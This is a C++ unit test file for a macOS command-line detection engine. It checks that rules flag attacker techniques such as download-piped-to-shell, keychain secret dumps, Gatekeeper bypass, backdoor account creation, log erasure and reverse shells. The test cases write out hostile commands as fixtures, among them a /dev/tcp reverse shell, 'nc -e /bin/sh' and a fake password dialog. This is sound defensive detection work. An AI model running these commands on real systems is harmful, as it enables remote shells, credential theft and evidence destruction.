#include "Engine/Analysis/Detections.h"

#include <gtest/gtest.h>

#include <set>

namespace {

// Names of the rows that fire, in table order. The command line is passed as the engine passes
// it: already lowercased.
std::vector<std::string> firing(std::string_view exe, std::string_view line)
{
    std::vector<std::string> names;
    for (const Detections::CommandRule &rule : Detections::commandRules())
        if (rule.match(exe, line)) names.push_back(rule.name);
    return names;
}

using Names = std::vector<std::string>;

struct Case {
    const char *name;
    std::string exe;
    std::string line;
    Names expected;
};

void check(const std::vector<Case> &cases)
{
    for (const Case &c : cases) EXPECT_EQ(firing(c.exe, c.line), c.expected) << c.name;
}

TEST(CommandRules, TableOrderAndShape)
{
    const Names expected = {"Encoded payload decoded",
                            "Download piped to shell",
                            "Tool transfer to unusual location",
                            "Fake password prompt",
                            "AppleScript one-liner",
                            "Keychain credential access",
                            "Gatekeeper bypass",
                            "SIP / security posture query",
                            "SIP disable attempt",
                            "launchd job loaded",
                            "Account manipulation command",
                            "User / host discovery",
                            "Privacy database reset",
                            "Log erasure",
                            "History tampering",
                            "Reverse shell pattern",
                            "Cron modification",
                            "Login hook",
                            "Firewall disabled",
                            "Remote access enabled",
                            "Kernel extension load",
                            "Screen capture"};
    const auto &rules = Detections::commandRules();
    ASSERT_EQ(rules.size(), expected.size());
    for (size_t i = 0; i < rules.size(); ++i) {
        EXPECT_EQ(rules[i].name, expected[i]);
        EXPECT_FALSE(rules[i].explanation.empty()) << rules[i].name;
        EXPECT_TRUE(rules[i].technique.starts_with("T")) << rules[i].name;
    }
    EXPECT_EQ(&rules, &Detections::commandRules()) << "built once";
}

TEST(CommandRules, AnyExecutablePatterns)
{
    check({
        {"base64 -d", "sh", "sh -c echo agk= | base64 -d", {"Encoded payload decoded"}},
        {"base64 --decode", "zsh", "zsh -c base64 --decode payload.txt", {"Encoded payload decoded"}},
        {"base64 encoding", "base64", "base64 -i file -o out", {}},
        {"pipe into sh", "bash", "bash -c curl -fssl https://x.example/i | sh", {"Download piped to shell"}},
        {"pipe into bash, no space", "sh", "sh -c curl x|bash", {"Download piped to shell"}},
        {"pipe into zsh", "sh", "sh -c curl x | zsh", {"Download piped to shell"}},
        {"bar directly before zsh", "sh", "sh -c curl x |zsh", {}},
        {"decode piped into a shell",
         "sh",
         "sh -c echo x | base64 -d | sh",
         {"Encoded payload decoded", "Download piped to shell"}},
        {"history cleared", "zsh", "zsh -c history -c", {"History tampering"}},
        {"history size zeroed", "bash", "bash -c export histsize=0", {"History tampering"}},
        {"history file unset", "zsh", "zsh -c unset histfile", {"History tampering"}},
        {"history file removed", "sh", "sh -c rm ~/.zsh_history", {"History tampering"}},
        {"history listed", "zsh", "zsh -c history", {}},
        {"no executable, no command line", "", "", {}},
    });
}

TEST(CommandRules, ToolTransfer)
{
    const Names transfer = {"Tool transfer to unusual location"};
    check({
        {"curl into /tmp", "curl", "curl -o /tmp/x https://example.com/x", transfer},
        {"wget into /private/tmp", "wget", "wget -o/private/tmp/x https://example.com/x", transfer},
        {"curl into the shared folder", "curl", "curl -o /users/shared/x https://example.com", transfer},
        {"curl into a hidden file", "curl", "curl -o ~/.agent https://example.com", transfer},
        {"curl from a bare IP", "curl", "curl http://10.0.0.1/x -o out", transfer},
        {"https and port", "curl", "curl https://192.168.100.200:8443/p -o out", transfer},
        {"last group longer than three digits", "curl", "curl http://1.2.3.4567 -o out", transfer},
        {"second URL is the bare one", "curl", "curl http://http://1.2.3.4", transfer},
        {"curl to a named host", "curl", "curl https://example.com/x -o out", {}},
        {"three groups only", "curl", "curl http://10.0.0/x -o out", {}},
        {"four-digit first group", "curl", "curl http://1234.1.1.1/ -o out", {}},
        {"four-digit inner group", "curl", "curl http://1.2345.1.1/ -o out", {}},
        {"empty group", "curl", "curl http://1..2.3.4/ -o out", {}},
        {"two s", "curl", "curl httpss://1.2.3.4/ -o out", {}},
        {"missing colon", "curl", "curl https//1.2.3.4/ -o out", {}},
        {"other executable", "fetch", "fetch http://10.0.0.1/x -o /tmp/x", {}},
        {"executable case matters", "Curl", "curl http://10.0.0.1/x", {}},
    });
}

TEST(CommandRules, ExecutableSpecificRows)
{
    check({
        {"password dialog",
         "osascript",
         "osascript -e display dialog \"enter your password\" default answer \"\" with hidden answer",
         {"Fake password prompt"}},
        {"hidden answer without the word password",
         "osascript",
         "osascript -e display dialog \"pin\" with hidden answer",
         {"Fake password prompt", "AppleScript one-liner"}},
        {"harmless dialog", "osascript", "osascript -e display dialog \"done\"", {"AppleScript one-liner"}},
        {"script file", "osascript", "osascript ./tool.scpt", {}},
        {"keychain secret", "security", "security find-generic-password -wa wifi", {"Keychain credential access"}},
        {"keychain export", "security", "security export -k login.keychain -o /tmp/k", {"Keychain credential access"}},
        {"certificate printed", "security", "security find-certificate -p -a", {"Keychain credential access"}},
        {"keychain listing", "security", "security list-keychains", {}},
        {"quarantine removed", "xattr", "xattr -d com.apple.quarantine /applications/tool.app", {"Gatekeeper bypass"}},
        {"attributes cleared", "xattr", "xattr -c tool", {"Gatekeeper bypass"}},
        {"attributes listed", "xattr", "xattr -l tool", {}},
        {"assessment off", "spctl", "spctl --master-disable", {"Gatekeeper bypass"}},
        {"assessment rule added", "spctl", "spctl --add tool.app", {"Gatekeeper bypass"}},
        {"assessment status", "spctl", "spctl --status", {}},
        {"SIP status", "csrutil", "csrutil status", {"SIP / security posture query"}},
        {"SIP disable", "csrutil", "csrutil disable", {"SIP disable attempt"}},
        {"job loaded", "launchctl", "launchctl load -w /library/launchdaemons/x.plist", {"launchd job loaded"}},
        {"job bootstrapped", "launchctl", "launchctl bootstrap gui/501 x.plist", {"launchd job loaded"}},
        {"job unloaded", "launchctl", "launchctl unload x.plist", {}},
        {"user created", "dscl", "dscl . -create /users/backdoor", {"Account manipulation command"}},
        {"password set", "dscl", "dscl . -passwd /users/backdoor x", {"Account manipulation command"}},
        {"user read", "dscl", "dscl . -read /users/orvik", {}},
        {"user added", "sysadminctl", "sysadminctl -adduser backdoor", {"Account manipulation command"}},
        {"password reset", "sysadminctl", "sysadminctl -resetpasswordfor orvik", {"Account manipulation command"}},
        {"admin group edited", "dseditgroup", "dseditgroup -o edit -a x -t user admin", {"Account manipulation command"}},
        {"other group edited", "dseditgroup", "dseditgroup -o edit -a x -t user staff", {}},
        {"whoami whatever its arguments", "whoami", "whoami --anything", {"User / host discovery"}},
        {"id", "id", "id -u", {"User / host discovery"}},
        {"system profiler", "system_profiler", "", {"User / host discovery"}},
        {"who is not listed", "who", "who", {}},
        {"privacy reset", "tccutil", "tccutil reset all", {"Privacy database reset"}},
        {"privacy help", "tccutil", "tccutil --help", {}},
        {"unified log erased", "log", "log erase --all", {"Log erasure"}},
        {"unified log shown", "log", "log show --last 1h", {}},
        {"log folder removed", "rm", "rm -rf /var/log/install", {"Log erasure"}},
        {"trail folder removed", "rm", "rm -rf /private/var/audit", {"Log erasure"}},
        {"other file removed", "rm", "rm -rf /tmp/x", {}},
        {"audit trail rotated", "audit", "audit -t", {"Log erasure"}},
        {"audit resynced", "audit", "audit -s", {}},
        {"crontab listed", "crontab", "crontab -l", {}},
        {"crontab installed", "crontab", "crontab /tmp/jobs", {"Cron modification"}},
        {"login hook written", "defaults", "defaults write com.apple.loginwindow loginhook /tmp/x", {"Login hook"}},
        {"defaults read", "defaults", "defaults read com.apple.loginwindow", {}},
        {"pf disabled", "pfctl", "pfctl -d", {"Firewall disabled"}},
        {"pf enabled", "pfctl", "pfctl -e", {}},
        {"application firewall off", "socketfilterfw", "socketfilterfw --setglobalstate off", {"Firewall disabled"}},
        {"application firewall on", "socketfilterfw", "socketfilterfw --setglobalstate on", {}},
        {"remote login on", "systemsetup", "systemsetup -setremotelogin on", {"Remote access enabled"}},
        {"remote login off", "systemsetup", "systemsetup -setremotelogin off", {}},
        {"screen sharing activated",
         "kickstart",
         "kickstart -activate -configure -access -on",
         {"Remote access enabled"}},
        {"kext loaded", "kextload", "kextload /tmp/x.kext", {"Kernel extension load"}},
        {"kmutil", "kmutil", "kmutil showloaded", {"Kernel extension load"}},
        {"kext listed", "kextstat", "kextstat", {}},
        {"screen captured", "screencapture", "screencapture -x /tmp/s.png", {"Screen capture"}},
        {"screenshot tool", "screenshot", "screenshot", {}},
    });
}

TEST(CommandRules, ReverseShell)
{
    const Names reverse = {"Reverse shell pattern"};
    check({
        {"netcat executing a shell", "nc", "nc -e /bin/sh 10.0.0.1 4444", reverse},
        {"ncat with -c", "ncat", "ncat -c sh 10.0.0.1 4444", reverse},
        {"netcat listening", "netcat", "netcat -l 4444", {}},
        {"dev tcp in any executable", "bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", reverse},
        {"python socket one-liner", "python3", "python3 -c import socket,subprocess,os;s=socket.socket()", reverse},
        {"ruby socket one-liner", "ruby", "ruby -c require 'socket'", reverse},
        {"perl with -e is not -c", "perl", "perl -e use socket;", {}},
        {"python script mentioning socket", "python3", "python3 socket_server.py", {}},
        {"python one-liner without socket", "python3", "python3 -c print(1)", {}},
        {"interpreter name case matters", "Python3", "python3 -c import socket", {}},
    });
}

// Command lines can be tens of kilobytes; every rule must stay linear and must not recurse.
TEST(CommandRules, LongCommandLines)
{
    auto repeat = [](std::string_view unit, size_t size) {
        std::string s;
        while (s.size() < size) s += unit;
        return s;
    };
    const size_t size = 64 * 1024;
    const std::vector<std::string> lines = {
        repeat("a", size),         repeat("http://1.2.3", size), "http://" + repeat("1", size),
        repeat("http://1.", size), repeat("https", size),        repeat("base64 -", size),
        repeat("| ", size),        repeat(" -", size),           repeat("/", size),
    };
    std::set<std::string> executables;
    executables.insert("");
    executables.insert("python3");
    for (const char *exe : {"curl",     "wget",         "osascript", "security",       "xattr",       "spctl",
                            "csrutil",  "launchctl",    "dscl",      "sysadminctl",    "dseditgroup", "whoami",
                            "tccutil",  "log",          "rm",        "audit",          "nc",          "perl",
                            "crontab",  "defaults",     "pfctl",     "socketfilterfw", "systemsetup", "kickstart",
                            "kextload", "screencapture"})
        executables.insert(exe);

    for (const std::string &line : lines)
        for (const std::string &exe : executables)
            for (const auto &rule : Detections::commandRules()) (void)rule.match(exe, line);

    EXPECT_TRUE(firing("curl", lines[1]).empty());
    EXPECT_EQ(firing("curl", lines[1] + "http://1.2.3.4"), Names{"Tool transfer to unusual location"});
    EXPECT_TRUE(firing("curl", lines[2]).empty());
    EXPECT_TRUE(firing("curl", lines[3]).empty());
}

} // namespace
